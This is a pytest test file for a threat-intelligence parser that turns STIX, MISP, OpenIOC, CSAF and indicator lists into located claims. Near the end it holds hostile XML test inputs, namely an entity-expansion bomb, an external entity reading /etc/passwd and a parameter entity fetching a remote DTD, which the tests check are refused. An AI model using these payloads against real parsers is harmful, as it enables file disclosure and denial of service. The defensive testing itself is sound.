"""What structured documents state becomes claims, each at its place in a readable text."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from intel_structured import CSV, EMPTY, JSON, MD5, SHA256, csaf, misp, openioc, stix1, stix2

from hinomi.intel.read import read_report
from hinomi.model.claims import Report
from hinomi.model.errors import HinomiError, ReportError


def said(report: Report) -> set[tuple[str, str, str]]:
    return {(c.type, c.value, c.role) for c in report.claims}


def test_stix_2() -> None:
    report = read_report("b.json", stix2())
    assert (report.title, report.published, report.media_type) == (
        "Kawara in ports",
        "2026-02-03",
        "application/stix+json",
    )
    assert said(report) == {
        ("sha256", SHA256, "command-and-control"), ("ipv4", "203.0.113.9", "command-and-control"),
        ("ipv4", "198.51.100.7", "command-and-control"), ("filepath", "C:\\Users\\Public\\it's.exe", "malicious"),
        ("sha256", EMPTY, "benign"), ("malware", "Kawara", "mentioned"), ("malware", "Roof Tile", "mentioned"),
        ("attack-technique", "T1059.004", "mentioned"), ("cve", "CVE-2026-12345", "mentioned"),
        ("domain", "seen.example", "mentioned"), ("url", "http://relay.kawara-net.example/x", "mentioned"),
    }  # fmt: skip
    names = {c.id: c.value for c in report.claims}
    assert [(names[r.from_id], r.type, names[r.to_id]) for r in report.relations] == [("Kawara", "uses", "T1059.004")]
    assert {c.canonical for c in report.claims if c.value == "Roof Tile"} == {"Kawara"}
    assert next(c.confidence for c in report.claims if c.value == "203.0.113.9") == 70


def test_misp() -> None:
    report = read_report("e.json", misp())
    assert (report.title, report.published) == ("Kawara campaign", "2026-02-03")
    assert said(report) >= {
        ("ipv4", "203.0.113.9", "malicious"), ("sha256", SHA256, "sample"), ("filename", "a.exe", "delivery"),
        ("domain", "quiet.example", "mentioned"), ("url", "https://vendor.example/blog", "reference"),
        ("sha256", EMPTY, "benign"), ("md5", MD5, "sample"), ("attack-technique", "T1059.004", "mentioned"),
        ("actor", "Slate Panda", "mentioned"), ("actor", "UNC7", "mentioned"), ("cve", "CVE-2026-11111", "mentioned"),
    }  # fmt: skip
    assert not any("gone" in c.value for c in report.claims)


def test_openioc() -> None:
    report = read_report("k.ioc", openioc())
    assert (report.title, report.published) == ("Kawara", "2026-02-03")
    assert said(report) == {
        ("md5", MD5, "sample"), ("filename", "rooftile", "mentioned"), ("domain", "bad.example", "malicious"),
        ("domain", "relay.kawara-net.com", "mentioned"),
    }  # fmt: skip


def test_openioc_handles_are_of_files_too_and_the_first_of_january_1_is_no_date() -> None:
    data = b"""<?xml version="1.0"?><ioc xmlns="http://schemas.mandiant.com/2010/ioc" id="x">
    <short_description>Roof</short_description><authored_date>0001-01-01T00:00:00</authored_date><definition>
    <IndicatorItem condition="is"><Context search="ProcessItem/HandleList/Handle/Name"/>
    <Content type="string">system32\\rooftile9.exe</Content></IndicatorItem>
    <IndicatorItem condition="is"><Context search="ProcessItem/HandleList/Handle/Name"/>
    <Content type="string">_ROOF_2108</Content></IndicatorItem></definition></ioc>"""
    report = read_report("r.ioc", data.replace(b"\\\\", b"\\"))
    assert report.published is None
    assert said(report) == {("filename", "rooftile9.exe", "malicious"), ("mutex", "_ROOF_2108", "malicious")}


def test_misp_attributes_of_two_values_and_what_a_comment_says_of_an_address() -> None:
    attributes = [
        {"type": "domain|ip", "category": "Network activity", "value": "kawara.example|203.0.113.77", "to_ids": True},
        {"type": "ip-dst|port", "category": "Network activity", "value": "198.51.100.3|443", "to_ids": True,
         "comment": "C2 server"},
        {"type": "ip-dst", "category": "Network activity", "value": "8.8.8.8", "to_ids": False},
    ]  # fmt: skip
    report = read_report("e.json", json.dumps({"Event": {"info": "Roof", "Attribute": attributes}}).encode())
    assert said(report) == {
        ("domain", "kawara.example", "malicious"), ("ipv4", "203.0.113.77", "malicious"),
        ("ipv4", "198.51.100.3", "command-and-control"), ("ipv4", "8.8.8.8", "benign"),
    }  # fmt: skip


def test_stix_1_tells_command_servers_by_the_type_of_the_indicator() -> None:
    data = stix1()
    assert b"Address_Value" in data
    opening = re.search(rb"<[\w:]*Indicator(?: [^>]*)?>", data)
    assert opening is not None
    typed = data.replace(opening[0], opening[0] + b"<Type>C2</Type>", 1)
    roles = {c.role for c in read_report("s.xml", typed).claims if c.type in ("ipv4", "domain")}
    assert "command-and-control" in roles


def test_stix_1() -> None:
    report = read_report("s.xml", stix1())
    assert (report.title, report.published) == ("Kawara watch", "2014-02-20")
    assert said(report) == {
        ("ipv4", "203.0.113.9", "malicious"), ("ipv4", "198.51.100.7", "malicious"), ("sha256", SHA256, "sample"),
        ("domain", "seen.example", "mentioned"), ("malware", "Kawara", "mentioned"), ("cve", "CVE-2014-99991", "mentioned"),
    }  # fmt: skip


def test_csaf() -> None:
    report = read_report("a.json", csaf())
    assert said(report) == {
        ("cve", "CVE-2026-22222", "mentioned"), ("product", "Roof Server", "affected"),
        ("affected-version", ">=2.0 <2.17.1", "affected"), ("fixed-version", "2.17.1", "fixed"),
        ("mitigation", "Update Roof Server to 2.17.1.", "mentioned"),
    }  # fmt: skip
    affected = next(c for c in report.claims if c.type == "affected-version")
    assert affected.attributes == {"product": "Roof Server", "operator": "<", "from": "2.0"}


def test_lists() -> None:
    report = read_report("l.csv", CSV)
    assert said(report) == {("ipv4", "203.0.113.9", "command-and-control"), ("sha256", SHA256, "sample")}
    assert next(c.confidence for c in report.claims if c.type == "ipv4") == 90
    assert said(read_report("l.json", JSON)) == {("domain", "bad.example", "malicious"), ("md5", MD5, "sample")}
    japanese = f"種別,値,備考\nドメイン,bad[.]example,通信先\nハッシュ値,{MD5},検体\n".encode("cp932")
    told = {("domain", "bad.example", "command-and-control"), ("md5", MD5, "sample")}
    assert said(read_report("l.csv", japanese)) == told


def test_a_sample_of_misp_is_a_name_and_a_digest() -> None:
    event = {"info": "x", "Attribute": [{"type": "malware-sample", "value": f"b.exe|{MD5}", "to_ids": True}]}
    assert said(read_report("m.json", json.dumps({"Event": event}).encode())) == {
        ("filename", "b.exe", "malicious"), ("md5", MD5, "sample"),
    }  # fmt: skip


def test_attributes_that_a_search_gives_are_an_event() -> None:
    found = [{"type": "ip-dst|port", "category": "Network activity", "value": "203.0.113.9|443", "to_ids": True}]
    report = read_report("in/found.json", json.dumps({"response": {"Attribute": found}}).encode())
    assert report.title == "found.json"
    assert said(report) == {("ipv4", "203.0.113.9", "malicious")}


@pytest.mark.parametrize("shape", [lambda o: o, lambda o: {"objects": o, "more": False}])
def test_stix_objects_without_a_bundle(shape: Callable[[Any], Any]) -> None:
    objects = json.loads(stix2())["objects"]
    assert said(read_report("o.json", json.dumps(shape(objects)).encode())) == said(read_report("s.json", stix2()))


def test_objects_of_other_things_are_no_stix() -> None:
    report = read_report("o.json", b'{"objects": [{"type": "a", "id": "b--1", "value": "x"}]}')
    assert report.media_type != "application/stix+json"


@pytest.mark.parametrize("text", ["name,age,city\nTaro,3,Osaka\n", "Date, Country, Notes\n2026, Japan, x\n", "a,b\n"])
def test_a_table_of_other_things_is_no_indicator_list(text: str) -> None:
    assert read_report("t.csv", text.encode()).media_type == "text/plain"


@pytest.mark.parametrize("make", [stix2, misp, openioc, stix1, csaf, lambda: CSV, lambda: JSON])
def test_every_claim_stands_where_it_says(make: Callable[[], bytes]) -> None:
    report = read_report("x", make())
    for claim in report.claims:
        assert report.text[claim.span[0] : claim.span[1]] == claim.text
    for relation in report.relations:
        assert 0 <= relation.span[0] < relation.span[1] <= len(report.text)
    stated = [c for c in report.claims if c.why.endswith(("bundle", "event", "definition", "document", "list"))]
    assert all(c.text == c.value for c in stated)


BOMB = b"""<?xml version="1.0"?><!DOCTYPE ioc [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>
<ioc xmlns="http://schemas.mandiant.com/2010/ioc"><description>&d;&d;&d;</description></ioc>"""
OUTSIDE = b"""<?xml version="1.0"?><!DOCTYPE ioc [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<ioc xmlns="http://schemas.mandiant.com/2010/ioc"><description>&x; words</description></ioc>"""
PARAMETER = b"""<?xml version="1.0"?><!DOCTYPE ioc [<!ENTITY % p SYSTEM "http://203.0.113.9/evil.dtd"> %p;]>
<ioc xmlns="http://schemas.mandiant.com/2010/ioc"><description>words</description></ioc>"""


@pytest.mark.parametrize("data", [BOMB, OUTSIDE, PARAMETER])
@pytest.mark.parametrize("root", [b"http://schemas.mandiant.com/2010/ioc", b"http://stix.mitre.org/stix-1"])
def test_hostile_xml_is_refused(data: bytes, root: bytes) -> None:
    with pytest.raises(ReportError, match=r"entities|Entity|entity"):
        read_report("x.xml", data.replace(b"http://schemas.mandiant.com/2010/ioc", root))


def test_deep_xml_is_no_crash() -> None:
    with pytest.raises(HinomiError):
        read_report("x.xml", b'<ioc xmlns="http://schemas.mandiant.com/2010/ioc">' + b"<a>" * 100_000)


def test_surrogates_and_zeros_can_be_stored() -> None:
    data = stix2().replace(b"Roof Tile", b"R\\ud800of\\u0000")
    report = read_report("b.json", data)
    report.text.encode()
    assert "\0" not in report.text


_MAKERS = (stix2, misp, openioc, stix1, csaf, lambda: CSV, lambda: JSON)


@settings(max_examples=120, deadline=None, derandomize=True)
@given(st.sampled_from(_MAKERS), st.integers(0, 4000), st.integers(0, 60), st.binary(max_size=12))
def test_damage_anywhere_gives_a_report_or_our_error(
    make: Callable[[], bytes], at: int, cut: int, noise: bytes
) -> None:
    data = make()
    at %= len(data)
    try:
        report = read_report("x", data[:at] + noise + data[at + cut :])
    except HinomiError:
        return
    assert all(report.text[a:b] == c.text for c in report.claims for a, b in [c.span])


_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=6),
    lambda v: st.lists(v, max_size=3) | st.dictionaries(st.sampled_from("type id objects pattern name value Attribute info to_ids document product_tree branches vulnerabilities cve extensions claims hashes object_refs".split()), v, max_size=4),
    max_leaves=10,
)  # fmt: skip


@settings(max_examples=150, deadline=None, derandomize=True)
@given(st.sampled_from(["stix", "misp", "csaf", "list"]), _VALUES, _VALUES)
def test_any_types_in_the_right_places(kind: str, one: object, other: object) -> None:
    import json

    roots = {
        "stix": {"type": "bundle", "objects": [one, {"type": "indicator", "id": "i", "pattern": other, "extensions": one},
                 {"type": "report", "object_refs": one, "extensions": {"extension-definition--f2bb7a3c-51c5-5a0e-9d0f-5b1a2c7e4d90": {"claims": other, "relations": one}}}]},
        "misp": {"Event": {"info": one, "Attribute": [other, {"type": "ip-dst|port", "value": one}], "Tag": other, "Galaxy": one}},
        "csaf": {"document": {"csaf_version": "2.0", "title": one, "notes": other}, "product_tree": one, "vulnerabilities": [other, {"product_status": one}]},
        "list": {"indicators": [one, {"type": "md5", "value": MD5, "comment": other}]},
    }  # fmt: skip
    try:
        read_report("x", json.dumps(roots[kind]).encode())
    except HinomiError:
        return
